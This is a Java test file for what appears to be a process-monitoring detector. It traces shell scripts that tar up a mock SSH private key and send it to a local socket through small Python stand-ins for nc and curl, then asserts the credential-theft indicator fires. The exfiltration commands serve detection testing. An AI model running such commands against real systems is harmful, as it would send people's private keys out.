package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;

import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Schema 22: secrets sent to the network. An archiver walking a directory reads the private key in it, which is a
 * backup's read and no indicator; its output going to a process that holds an inet connection, through a pipe or
 * through the archive file, is exfiltration. Real strace, tar (and its gzip), Python senders standing in for nc and
 * curl, and a sink in this JVM.
 */
class SecretsToTheNetworkTest {
    /** nc HOST PORT in a few lines: connects to argv[1] and sends its stdin. */
    private static final String SENDER = "import socket,sys\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "s.sendall(sys.stdin.buffer.read())\n";
    /** curl -T FILE URL in a few lines: reads argv[2], connects to argv[1] and sends it. */
    private static final String FILE_SENDER = "import socket,sys\n"
            + "data=open(sys.argv[2],'rb').read()\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "s.sendall(data)\n";

    @TempDir
    Path dir;

    @BeforeEach
    void aKeyAndSomeNotes() throws IOException {
        StraceRuns.assumeStrace();
        StraceRuns.assumePython();
        Files.writeString(dir.resolve("send.py"), SENDER);
        Files.writeString(dir.resolve("send_file.py"), FILE_SENDER);
        Files.createDirectories(dir.resolve("home/.ssh"));
        Files.writeString(dir.resolve("home/.ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
        Files.createDirectories(dir.resolve("docs"));
        Files.writeString(dir.resolve("docs/notes.txt"), "nothing secret\n");
    }

    /** Traces {@code sh -c SCRIPT} in the test's directory, PORT in it standing for a sink that takes {@code connections}. */
    private List<ProcessRecord> traceWithSink(int connections, String script) throws Exception {
        try (ServerSocket sink = new ServerSocket(0, 4, InetAddress.getLoopbackAddress())) {
            Thread drain = new Thread(() -> {
                for (int i = 0; i < connections; i++) {
                    try (Socket s = sink.accept()) {
                        s.getInputStream().readAllBytes();
                    } catch (IOException ignored) {
                        return;
                    }
                }
            });
            drain.setDaemon(true);
            drain.start();
            List<ProcessRecord> ps = StraceRuns.processes(StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
                    "cd '" + dir + "' && " + script.replace("PORT", Integer.toString(sink.getLocalPort()))), new BehaviourFeatures());
            drain.join(10_000);
            return ps;
        }
    }

    @Test
    void anArchiveHoldingAKeyPipedToAConnectedProcessIsCredentialTheftButOtherDataOrARsyncIsNot() throws Exception {
        Path rsync = dir.resolve("rsync");
        Files.copy(TrainedModels.PYTHON.toRealPath(), rsync);
        rsync.toFile().setExecutable(true);
        String send = TrainedModels.PYTHON + " send.py PORT";
        List<ProcessRecord> ps = traceWithSink(3, "tar cf - home | " + send + " && tar cf - docs | " + send + " x"
                + " && tar cf - home | ./rsync send.py PORT");

        List<ProcessRecord> senders = ps.stream().filter(p -> p.argv().contains("send.py")).toList();
        assertThat(senders).extracting(p -> p.argv().size()).containsExactly(3, 4, 3);
        assertThat(senders.get(0).features().get("ind.credential_read")).as("a key's archive sent").isEqualTo(1f);
        assertThat(senders.get(0).evidence()).anySatisfy(l -> assertThat(l).startsWith(
                "its stdin is a pipe a family member that read a secret file writes into"));
        assertThat(senders.get(1).features().get("ind.credential_read")).as("other data sent").isZero();
        assertThat(senders.get(2).features().get("ind.credential_read")).as("a transfer client (rsync, by name)").isZero();
        assertThat(ps).filteredOn(p -> p.argv().get(0).equals("tar"))
                .allSatisfy(p -> assertThat(p.features().get("ind.credential_read")).as("tar walking its directory").isZero());
    }

    @Test
    void anArchiveFileHoldingAKeySentLaterIsCredentialTheftButOneOfOtherDataIsNot() throws Exception {
        // tar czf x.tgz DIR: tar's gzip, not tar, writes x.tgz, so secrecy follows the pipe from tar to gzip
        String send = TrainedModels.PYTHON + " send_file.py PORT";
        List<ProcessRecord> ps = traceWithSink(2, "tar czf keys.tgz home && " + send + " keys.tgz && tar czf docs.tgz docs && "
                + send + " docs.tgz");

        assertThat(ps).filteredOn(p -> p.argv().contains("keys.tgz") && p.argv().contains("send_file.py")).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.credential_read")).as("the key's archive sent").isEqualTo(1f));
        assertThat(ps).filteredOn(p -> p.argv().contains("docs.tgz") && p.argv().contains("send_file.py")).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.credential_read")).as("other data sent").isZero());
    }

    @Test
    void aCopyOfTheArchiveOrTheArchivePipedOnCarriesTheSecretToo() throws Exception {
        List<ProcessRecord> ps = traceWithSink(2, "tar czf keys.tgz home && cp keys.tgz again.tgz && " + TrainedModels.PYTHON
                + " send_file.py PORT again.tgz && cat keys.tgz | " + TrainedModels.PYTHON + " send.py PORT");

        assertThat(ps).filteredOn(p -> p.argv().contains("send_file.py")).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.credential_read")).as("a copy sent").isEqualTo(1f));
        assertThat(ps).filteredOn(p -> p.argv().contains("send.py")).singleElement()
                .satisfies(p -> assertThat(p.features().get("ind.credential_read")).as("the archive piped on").isEqualTo(1f));
        assertThat(ps).filteredOn(p -> p.argv().get(0).equals("cp") || p.argv().get(0).equals("cat"))
                .allSatisfy(p -> assertThat(p.features().get("ind.credential_read")).as("cp, cat").isZero());
    }
}
